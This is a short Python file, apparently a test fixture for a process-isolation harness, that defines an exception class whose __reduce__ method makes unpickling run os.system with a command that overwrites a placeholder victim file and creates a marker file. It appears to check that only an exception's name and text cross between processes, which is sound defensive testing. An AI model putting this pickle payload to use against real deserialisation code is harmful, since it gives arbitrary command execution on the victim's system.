# /// attack
# does = "raises an exception whose unpickling would overwrite a file"
# own = { softmax = ["error"] }
# says = "Evil"
# ///
"""Exceptions of other processes are unpickled as results are. Of this one its name and its text cross."""

import os


class Evil(Exception):
    def __reduce__(self):
        return os.system, ("echo overwritten > @VICTIM@; touch @FOLDER@/evil",)


def softmax(logits):
    raise Evil("unpickle me")
